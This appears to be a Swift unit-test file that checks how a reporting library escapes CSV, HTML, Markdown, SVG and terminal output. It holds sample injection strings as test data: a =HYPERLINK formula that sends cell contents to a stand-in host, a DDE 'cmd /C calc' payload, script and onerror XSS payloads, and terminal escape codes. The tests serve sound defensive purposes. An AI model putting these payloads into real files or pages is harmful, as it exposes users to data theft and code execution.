import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import XCTest
@testable import RendementCore

/// The escaper of each output format on the injections of issue 15 and on
/// the edge cases of its format. CSV output is read back with an RFC 4180
/// reader written here (not ours), SVG with Foundation's XML parser.
final class EscapingTests: XCTestCase {
    static let injections = [
        "[klik](javascript:alert%28document.domain%29)",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
        "+31 Utrecht", "-Utrecht", "@SUM(1+1)*cmd|' /C calc'!A0",
        "<img src=x onerror=alert(1)>", "<script>alert(document.domain)</script>",
        "Midden\nBrabant | x", "Twente\rOost", "Zee\r\nland", "\tGroningen", "a,b \"c\"",
    ]

    // MARK: CSV

    /// RFC 4180 reader for one record: fields, quoted fields with doubled quotes and line breaks.
    private func readRecord(_ text: String) -> [String] {
        var fields: [String] = [], field = "", quoted = false, i = text.unicodeScalars.startIndex
        let s = text.unicodeScalars
        var atStart = true
        while i < s.endIndex {
            let c = s[i]
            if quoted {
                if c == "\"" {
                    let next = s.index(after: i)
                    if next < s.endIndex, s[next] == "\"" { field.unicodeScalars.append("\""); i = s.index(after: next); continue }
                    quoted = false
                } else { field.unicodeScalars.append(c) }
            } else if c == "\"" && atStart {
                quoted = true
            } else if c == "," {
                fields.append(field); field = ""; atStart = true; i = s.index(after: i); continue
            } else {
                XCTAssertFalse(c == "\r" || c == "\n", "unquoted line break in \(text.debugDescription)")
                field.unicodeScalars.append(c)
            }
            atStart = false
            i = s.index(after: i)
        }
        XCTAssertFalse(quoted, "unterminated quote in \(text.debugDescription)")
        fields.append(field)
        return fields
    }

    func testCSVQuotesCommaQuoteLineFeedAndBareCR() {
        XCTAssertEqual(Escaping.csv("plain"), "plain")
        XCTAssertEqual(Escaping.csv("a,b"), "\"a,b\"")
        XCTAssertEqual(Escaping.csv("say \"hi\""), "\"say \"\"hi\"\"\"")
        XCTAssertEqual(Escaping.csv("x\ny"), "\"x\ny\"")
        XCTAssertEqual(Escaping.csv("x\ry"), "\"x\ry\"", "a bare CR must be quoted")
        XCTAssertEqual(Escaping.csv("x\r\ny"), "\"x\r\ny\"", "CR LF (one Character in Swift) must be quoted")
        for s in Self.injections + ["", " ", "'s-Hertogenbosch", "Fryslân"] {
            let written = Escaping.csv(s, guardFormulas: false)
            XCTAssertEqual(readRecord(written + "," + written), [s, s], "round trip of \(s.debugDescription)")
        }
    }

    func testCSVNeutralisesFormulaTriggers() {
        for (input, expected) in [
            ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
            ("+31 Utrecht", "'+31 Utrecht"), ("-Utrecht", "'-Utrecht"), ("@SUM(A1)", "'@SUM(A1)"),
            ("\tGroningen", "'\tGroningen"), ("\rZeeland", "'\rZeeland"), ("\nZeeland", "'\nZeeland"), ("\0x", "'\0x"),
            ("  =1+1", "'  =1+1"), ("\u{FF1D}1+1", "'\u{FF1D}1+1"), ("-1+1", "'-1+1"), ("-", "'-"), ("-inf", "'-inf"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ] {
            let written = Escaping.csv(input)
            XCTAssertTrue(written.hasPrefix("\""), "a neutralised field is quoted: \(written.debugDescription)")
            XCTAssertEqual(readRecord(written), [expected], input.debugDescription)
        }
    }

    func testCSVKeepsPlainNumbersAndOrdinaryText() {
        for number in ["-0.25", "+3", "-12", "1e-5", "-2E+10", ".5", "-.5", "0", "42"] {
            XCTAssertTrue(Escaping.isPlainNumber(number), number)
            XCTAssertEqual(Escaping.csv(number), number, "a genuine number keeps its sign")
        }
        for text in ["-", "+", "1-2", "--1", "-1e", "1.2.3", "-1,5", "- 1", "e5", ""] { XCTAssertFalse(Escaping.isPlainNumber(text), text) }
        for text in ["Utrecht", "2013Q2", "2013-04-01", "'s-Hertogenbosch", "a=b", "x+y", "mail@example.org"] {
            XCTAssertEqual(Escaping.csv(text), text)
        }
        XCTAssertEqual(Escaping.csv("=1+1", guardFormulas: false), "=1+1", "without the guard a value is kept as it is")
    }

    func testAppendCSVWritesExactlyWhatCSVWrites() {
        for s in Self.injections + ["", "plain", "-0.5", "x\ry"] {
            for guardFormulas in [true, false] {
                var bytes: [UInt8] = []
                Escaping.appendCSV(s, guardFormulas: guardFormulas, to: &bytes)
                XCTAssertEqual(String(decoding: bytes, as: UTF8.self), Escaping.csv(s, guardFormulas: guardFormulas), s.debugDescription)
            }
        }
    }

    func testTidyCSVGuardsTextButNotNumbers() {
        var t = TidyCSV(columns: ["name", "did"])
        t.append([.text("=HYPERLINK(\"x\")"), .number(-0.25)])
        t.append([.text("-0.25"), .int(-3)])
        t.append([.text("Twente\rOost"), .missing])
        XCTAssertEqual(t.text, "name,did\n\"'=HYPERLINK(\"\"x\"\")\",-0.25\n-0.25,-3\n\"Twente\rOost\",\n")
        var raw = TidyCSV(columns: ["name"], guardFormulas: false)
        raw.append([.text("=1+1")])
        XCTAssertEqual(raw.text, "name\n=1+1\n")
    }

    // MARK: HTML

    func testHTMLEscapesMarkupQuotesAndControls() {
        XCTAssertEqual(Escaping.html("<script>alert(\"x\")</script>"), "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;")
        XCTAssertEqual(Escaping.html("<img src=x onerror=alert(1)>"), "&lt;img src=x onerror=alert(1)&gt;")
        XCTAssertEqual(Escaping.html("a & b 'c'"), "a &amp; b &#39;c&#39;")
        XCTAssertEqual(Escaping.html("&lt;"), "&amp;lt;", "no character reference of its own")
        XCTAssertEqual(Escaping.html("x\ny\rz\0"), "x y z ")
        XCTAssertEqual(Escaping.html("a\u{202E}b"), "ab", "direction overrides dropped")
        for s in Self.injections {
            let h = Escaping.html(s)
            XCTAssertFalse(h.contains("<") || h.contains(">") || h.contains("\"") || h.contains("'"), h)
        }
    }

    // MARK: Markdown

    func testMarkdownEscapesEverythingThatCouldBeMarkup() {
        XCTAssertEqual(Escaping.markdown("[klik](javascript:alert%28document.domain%29)"), "\\[klik\\](javascript:alert%28document.domain%29)")
        XCTAssertEqual(Escaping.markdown("<img src=x>"), "\\<img src=x\\>")
        XCTAssertEqual(Escaping.markdown("a | b"), "a \\| b")
        XCTAssertEqual(Escaping.markdown("*x* _y_ `z` \\ ~~s~~ # $m$ &amp;"), "\\*x\\* \\_y\\_ \\`z\\` \\\\ \\~\\~s\\~\\~ \\# \\$m\\$ \\&amp;")
        XCTAssertEqual(Escaping.markdown("Midden\nBrabant\rx\u{2028}y"), "Midden Brabant x y")
        XCTAssertEqual(Escaping.markdown("see https://evil.example and WWW.evil.example"), "see https\\://evil.example and WWW\\.evil.example")
        XCTAssertEqual(Escaping.markdown("a@b.example"), "a@\u{2060}b.example")
        XCTAssertEqual(Escaping.markdown("Fryslân 's-Hertogenbosch 0,5 (x)"), "Fryslân 's-Hertogenbosch 0,5 (x)", "ordinary text is untouched")
    }

    func testMarkdownLineStartEscapesBlockMarkers() {
        XCTAssertEqual(Escaping.markdownLineStart("- x"), "\\- x")
        XCTAssertEqual(Escaping.markdownLineStart("+ x"), "\\+ x")
        XCTAssertEqual(Escaping.markdownLineStart("==="), "\\===")
        XCTAssertEqual(Escaping.markdownLineStart("12. x"), "12\\. x")
        XCTAssertEqual(Escaping.markdownLineStart("3) x"), "3\\) x")
        XCTAssertEqual(Escaping.markdownLineStart("    code"), "code")
        XCTAssertEqual(Escaping.markdownLineStart("2013Q2 x"), "2013Q2 x")
    }

    func testMarkdownCodeSpanHoldsBackticksAndPipes() {
        XCTAssertEqual(Escaping.markdownCode("{\"a\":1}"), "`{\"a\":1}`")
        XCTAssertEqual(Escaping.markdownCode("a`b"), "``a`b``")
        XCTAssertEqual(Escaping.markdownCode("`x"), "`` `x ``")
        XCTAssertEqual(Escaping.markdownCode("a|b\nc", inTable: true), "`a\\|b c`")
    }

    // MARK: SVG

    private func parsesAsXML(_ xml: String) -> (Bool, String) {
        final class Texts: NSObject, XMLParserDelegate {
            var text = ""
            func parser(_ parser: XMLParser, foundCharacters string: String) { text += string }
        }
        let parser = XMLParser(data: Data(xml.utf8))
        let texts = Texts()
        parser.delegate = texts
        return (parser.parse(), texts.text)
    }

    func testSVGTextIsWellFormedAndLiteral() {
        for s in Self.injections + ["a\u{1}b\u{8}c\u{1B}[31m", "\u{FFFE}"] {
            let escaped = Escaping.svg(s)
            let (ok, text) = parsesAsXML("<svg><text title=\"\(escaped)\" alt='\(escaped)'>\(escaped)</text></svg>")
            XCTAssertTrue(ok, "not well-formed with \(s.debugDescription)")
            XCTAssertEqual(text, Escaping.singleLine(s).replacingOccurrences(of: "\u{FFFE}", with: "\u{FFFD}"))
        }
    }

    // MARK: Terminal

    func testTerminalShowsControlCharactersAsCodes() {
        XCTAssertEqual(Escaping.terminal("Utrecht\u{1B}[2J\nfake line"), "Utrecht\\u{1B}[2J\\u{A}fake line")
        XCTAssertEqual(Escaping.terminal("a\u{202E}b\u{9B}"), "a\\u{202E}b\\u{9B}")
        XCTAssertEqual(Escaping.terminal("Fryslân"), "Fryslân")
    }
}
